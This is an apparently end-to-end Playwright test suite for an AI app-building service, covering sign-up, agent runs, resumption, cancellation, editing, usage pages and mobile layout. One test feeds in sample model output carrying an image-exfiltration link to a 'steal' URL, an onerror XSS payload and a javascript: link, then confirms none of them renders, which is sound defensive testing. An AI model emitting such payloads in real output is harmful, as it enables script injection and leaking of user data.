// The main job in a browser: describes an app, watches the agent write it, and sees it run.
import type { Browser } from "@playwright/test";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { newCaller } from "../stage/caller.ts";
import { openTestStack, type TestStack } from "../stage/stack.ts";
import { until } from "../stage/until.ts";
import { launchBrowser, newVisit, picture, signIn, type Visit } from "./browser.ts";
import { appOrigin, workspaceOf } from "./workspace.ts";

const todoPrompt = "Make a todo list with an API that remembers the todos";

let testStack: TestStack;
let browser: Browser;
let visit: Visit;

beforeAll(async () => {
  [testStack, browser] = await Promise.all([openTestStack(), launchBrowser()]);
});

afterEach(async () => {
  const { complaints } = visit;
  await visit.close();
  expect(complaints, "what the app's own pages complained of").toEqual([]);
});

afterAll(async () => {
  await browser.close();
  await testStack.close();
});

async function signUp(): Promise<void> {
  visit = await newVisit(browser, testStack.stack.appUrl);
  const { page } = visit;
  await page.goto("/sign-up");
  await page.getByLabel("Name").fill("Ada Lovelace");
  await page.getByLabel("Email").fill(`${crypto.randomUUID()}@example.com`);
  await page.getByLabel("Password").fill("correct horse battery");
  await page.getByRole("button", { name: "Create account" }).click();
  await page.getByRole("textbox", { name: "Describe an app" }).waitFor();
}

/** Opens the app with an existing account signed in. */
async function signedIn(size?: { width: number; height: number }): Promise<void> {
  visit = await newVisit(browser, testStack.stack.appUrl, size);
  await signIn(visit, await newCaller(testStack.stack));
  await visit.page.goto("/");
}

async function startProject(prompt: string) {
  const box = visit.page.getByRole("textbox", { name: "Describe an app" });
  await box.fill(prompt);
  await box.press("Enter");
  await visit.page.waitForURL("**/projects/*");
  return workspaceOf(visit.page);
}

describe("the first page", () => {
  it("The first page shows its question before its scripts have run, and does not move it afterwards", async () => {
    await signedIn();
    const { page } = visit;
    const question = page.getByRole("heading", { level: 1, name: "What do you want to build?" });
    const box = page.getByRole("textbox", { name: "Describe an app" });
    await box.waitFor();
    await page.getByRole("button", { name: "Hide notice" }).click();
    let release = () => {};
    const released = new Promise<void>((resolve) => {
      release = resolve;
    });
    await page.route("**/assets/*.js", async (route) => {
      await released;
      await route.continue();
    });
    await page.reload({ waitUntil: "commit" });
    await question.waitFor();
    await page.evaluate("document.fonts.ready.then(() => undefined)");
    expect(await box.count()).toBe(0);
    const before = await question.boundingBox();
    release();
    await box.waitFor();
    expect(await question.count()).toBe(1);
    expect(await question.boundingBox()).toEqual(before);
  });
});

describe("the main job", () => {
  it("A new user's prompt leads to a running app that stores data", async () => {
    await signUp();
    const { page } = visit;
    await picture(page, "1-projects");
    const notice = page.getByRole("complementary", { name: "Model notice" });
    await notice.getByRole("button", { name: "How" }).click();
    await notice.getByText("ANTHROPIC_API_KEY").waitFor();
    const workspace = await startProject(todoPrompt);
    // The tree lists a file while it is being written.
    await workspace.tab("Code");
    await page.locator('[role="treeitem"][aria-busy="true"]').first().waitFor();
    await picture(page, "2-being-written");
    // The text streams, so it grows within a moment.
    const lengthOf = async () => (await page.getByRole("article").textContent())?.length ?? 0;
    let length = await lengthOf();

    // The expanded output of a step collapses when the next step starts, so the text may shrink in between.
    await until("more text", 30_000, async () => {
      const before = length;
      length = await lengthOf();
      return length > before;
    });

    // The page shows the picked agent and the router's reason.
    const reason = page.getByRole("article").getByText(/^Picked for: “/);
    await reason.waitFor();
    expect(await reason.getAttribute("title")).toMatch(/^Why this agent\? \d+% match\./);
    await page.getByRole("article").getByText("Full-stack builder", { exact: true }).waitFor();
    await workspace.tab("Preview");

    await workspace.turn("completed").waitFor({ timeout: 60_000 });
    const app = workspace.app();
    for (const todo of ["Water the plants", "Buy milk"]) {
      await app.getByRole("textbox", { name: "What needs to be done?" }).fill(todo);
      await app.getByRole("button", { name: "Add" }).click();
      await app.getByText(todo).waitFor();
    }
    await app.getByRole("checkbox", { name: "Try this todo list" }).check();
    await app.getByText("1 of 3 done").waitFor();
    expect(await appOrigin(page)).not.toBe(new URL(page.url()).origin);
    await picture(page, "3-running");
    // Pressing a suggested prompt puts it into the box, for the person to send.
    const suggested = page.getByRole("list", { name: "Suggested prompts" });
    await suggested.getByRole("button", { name: "Add due dates" }).click();
    expect(await workspace.prompt.inputValue()).toBe("Add due dates");
    await workspace.prompt.fill("");

    await page.reload();
    await workspace.app().getByText("Buy milk").waitFor();
    await workspace.turn("completed").getByText("Build passed, no type errors.").waitFor();

    // Each batch creates one revision, which the test checks in the API and then on the page.
    await workspace.tab("History");
    await page.getByRole("button", { name: "Version 1 Add the todo API with its database" }).waitFor();
    expect(await workspace.revisions.count()).toBe(2);
    await picture(page, "4-history");
    await workspace.tab("Code");
    for (const path of ["index.html", "src/server.ts", "src/main.ts"]) await workspace.file(path).waitFor();
  });

  it("A run resumes after a reload in the middle, and nothing is shown twice", async () => {
    await signedIn();
    const { page } = visit;
    const workspace = await startProject("[[five steps]] [[slow 25 ms]]");
    await workspace.turn("running").getByText("Step 2 of 5: I write").waitFor();
    await page.reload();
    const running = workspace.turn("running");
    await running.getByText("Step 1 of 5: I write").waitFor();
    await page.reload();
    await workspace.turn("completed").waitFor({ timeout: 60_000 });
    const text = (await workspace.turn("completed").textContent()) ?? "";
    for (const step of [1, 2, 3, 4, 5]) expect(text.split(`Step ${step} of 5: I write`)).toHaveLength(2);
    expect(text.split("All five steps are written.")).toHaveLength(2);
    expect(await page.getByRole("article").count()).toBe(1);
    await workspace.tab("History");
    await page.getByRole("button", { name: "Version 5 Step 5 of 5" }).waitFor();
    expect(await workspace.revisions.count()).toBe(5);
  });

  it("The preview shows an edit in the editor", async () => {
    await signedIn();
    const { page } = visit;
    const workspace = await startProject("Make a page about anything you like");
    await workspace.turn("completed").waitFor({ timeout: 60_000 });
    await workspace.app().getByText("A first draft").waitFor();
    await workspace.tab("Code");
    await workspace.file("index.html").click();
    const editor = workspace.editor("index.html");
    await editor.getByText("A first draft").dblclick();
    await page.keyboard.press("ControlOrMeta+a");
    await page.keyboard.insertText("<!doctype html><title>Mine</title><h1>Written by hand</h1>");
    await page.getByText("Unsaved", { exact: true }).waitFor();
    await picture(page, "5-editor");
    await page.keyboard.press("ControlOrMeta+s");
    await page.getByText("Unsaved", { exact: true }).waitFor({ state: "detached" });
    await workspace.tab("Preview");
    await workspace.app().getByRole("heading", { name: "Written by hand" }).waitFor();
    await workspace.tab("History");
    await until("both versions", 10_000, async () => (await workspace.revisions.count()) === 2);
  });

  it("A cancelled run stops and says so", async () => {
    await signedIn();
    const workspace = await startProject("[[stream 20000 deltas at 10 ms]]");
    await workspace.turn("running").getByText("w1 w2 w3").waitFor();
    await workspace.stop.click();
    const stopped = workspace.turn("cancelled");
    await stopped.getByText("Stopped.").waitFor();
    const { page } = visit;
    const project = /projects\/\w+/.exec(page.url())?.[0];
    const answer = await page.request.get(`/v1/${project}/messages`);
    const stored = /(?:w\d+ )+w\d+/.exec(await answer.text())?.[0];
    expect(stored).toMatch(/^w1 w2 w3 /);
    // The last deltas may be shown after the end.
    const isWhole = async () => (await stopped.textContent())?.includes(`${stored}`);
    await until("the whole stored text", 20_000, isWhole);
    await page.reload();
    await stopped.getByText("Stopped.").waitFor();
    await until("the same text after a reload", 20_000, isWhole);
    expect(await workspace.stop.count()).toBe(0);
  });

  it("The usage page reports the cost of the runs", async () => {
    await signedIn();
    const { page } = visit;
    const workspace = await startProject("@fullstack [[stream 3 deltas at 0 ms]]");
    await workspace.turn("completed").waitFor();
    const name = await page.getByRole("heading", { level: 1 }).textContent();
    await page.getByRole("link", { name: "Settings" }).click();
    await page.getByRole("link", { name: "Usage" }).click();
    await page.getByRole("row", { name: name ?? "" }).waitFor();
    await page.getByRole("list", { name: "Usage by day" }).getByRole("listitem").last().getByText("tokens").waitFor();
    await page.getByRole("button", { name: "By agent" }).click();
    await page.getByRole("rowheader", { name: "fullstack" }).waitFor();
    await picture(page, "6-usage");
  });

  it("A model's text neither loads images nor runs scripts", async () => {
    await signedIn();
    const text =
      "**Look**: ![secret](https://example.com/steal?canary) <img src=x onerror=alert(1)> and [here](javascript:alert(1)).";
    const script = `\`\`\`script\n${JSON.stringify([{ text }])}\n\`\`\``;
    const workspace = await startProject(script);
    const turn = workspace.turn("completed");
    await turn.locator("strong", { hasText: "Look" }).waitFor();
    expect(await turn.locator("img").count()).toBe(0);
    expect(await turn.locator('a[href^="javascript"]').count()).toBe(0);
  });

  it("An open page shows a run to its end although the runtime is killed in the middle", {
    timeout: 240_000,
  }, async () => {
    await signedIn();
    const { page, complaints } = visit;
    const workspace = await startProject("[[five steps]] [[slow 60 ms]]");
    const other = workspaceOf(await visit.context.newPage());
    await other.page.goto(page.url());
    // Both pages are fully loaded before the outage. Another test covers a page that loads during an outage.
    for (const each of [other, workspace]) await each.turn("running").locator(".prose").first().waitFor();
    await workspace.turn("running").getByText("Step 2 of 5: I write").waitFor();
    testStack.stack.killWorkerd();
    for (const each of [workspace, other]) {
      const turn = each.turn("completed");
      await turn.waitFor({ timeout: 90_000 });
      // The run's record may report the end before the stream has reconnected; the missing text still arrives.
      await turn.getByText("All five steps are written.").waitFor({ timeout: 60_000 });
      const text = (await turn.textContent()) ?? "";
      for (const step of [1, 2, 3, 4, 5]) expect(text.split(`Step ${step} of 5: I write`)).toHaveLength(2);
      expect(await turn.locator('[data-tool="write_files"]').count()).toBe(5);
      await each.page.getByText("Reconnecting…").waitFor({ state: "detached" });
    }
    await picture(page, "6-after-a-crash");
    // Without a server, the browser's console and Pages log failures; no other failures are allowed.
    const outage = /^Failed to load resource|^WebSocket connection to|^500 of [^ ]+ Error: Network connection lost/;
    complaints.splice(0, complaints.length, ...complaints.filter((one) => !outage.test(one)));
  });

  it("The main job works on a phone", async () => {
    await signedIn({ width: 390, height: 844 });
    const { page } = visit;
    const workspace = await startProject(todoPrompt);
    await workspace.turn("completed").waitFor({ timeout: 60_000 });
    await picture(page, "7-phone-chat");
    await workspace.tab("Preview");
    await workspace.app().getByRole("textbox", { name: "What needs to be done?" }).waitFor();
    await picture(page, "8-phone-preview");
    await workspace.tab("Code");
    await workspace.file("index.html").click();
    await workspace.editor("index.html").waitFor();
    await picture(page, "9-phone-code");
    const width = "document.documentElement.scrollWidth";
    expect(await page.evaluate(width)).toBe(390);
  });
});
